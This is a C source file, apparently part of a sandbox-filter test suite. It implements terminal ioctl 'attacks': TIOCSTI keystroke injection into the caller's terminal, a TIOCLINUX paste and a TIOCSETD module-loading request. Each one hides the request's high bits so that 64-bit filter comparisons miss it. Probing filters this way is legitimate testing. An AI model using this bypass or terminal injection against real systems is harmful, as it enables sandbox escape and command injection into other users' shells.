/* SPDX-License-Identifier: LGPL-2.1-or-later */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <termios.h>
#include <unistd.h>
#include "attack.h"

/* The kernel takes the request as 32 bits; a filter that compares 64 misses
 * one with anything above.  Every attack takes those high bits as its
 * argument. */
static long terminal_ioctl(int fd, unsigned long request, const char *high, void *argument)
{
	return syscall(SYS_ioctl, fd, request | number(high) << 32, argument);
}

/* A terminal of our own that controls our session. */
static int own_terminal(void)
{
	int fd, pid = fork();

	if (pid)
		exit(wait_child(pid));
	setsid();
	fd = posix_openpt(O_RDWR | O_NOCTTY);
	if (fd < 0 || grantpt(fd) < 0 || unlockpt(fd) < 0)
		exit(not_here("no pseudoterminal can be opened"));
	fd = open(ptsname(fd), O_RDWR);
	if (fd < 0)
		exit(refused("open of the terminal"));
	return fd;
}

/* Typing into a terminal as if its user had. */
static enum outcome type_into(int fd, const char *high)
{
	if (terminal_ioctl(fd, TIOCSTI, high, "x") < 0)
		return errno == EIO ? not_here("this kernel has no TIOCSTI for others (legacy_tiocsti)") :
				      refused("TIOCSTI");
	return achieved();
}

static enum outcome attack_tiocsti(char **arguments)
{
	return type_into(own_terminal(), arguments[0]);
}

/* The terminal of the caller, where there is one: a shell waits behind it. */
static enum outcome attack_tiocsti_caller(char **arguments)
{
	int fd = open("/dev/tty", O_RDWR);

	if (fd < 0)
		return refused("open of /dev/tty");
	return type_into(fd, arguments[0]);
}

/* Pasting on a virtual console; anything else answers ENOTTY, so arriving at
 * that answer means that no filter was in the way. */
static enum outcome attack_tioclinux(char **arguments)
{
	char subcode = 3; /* paste */

	return reached(terminal_ioctl(own_terminal(), TIOCLINUX, arguments[0], &subcode), "TIOCLINUX");
}

/* Another line discipline: the kernel loads a module for the asking. */
static enum outcome attack_tiocsetd(char **arguments)
{
	int discipline = 0; /* N_TTY */

	return reached(terminal_ioctl(own_terminal(), TIOCSETD, arguments[0], &discipline), "TIOCSETD");
}

const struct attack terminal_attacks[] = {
	{ "tiocsti", attack_tiocsti },
	{ "tiocsti-caller", attack_tiocsti_caller },
	{ "tioclinux", attack_tioclinux },
	{ "tiocsetd", attack_tiocsetd },
	{ 0 },
};
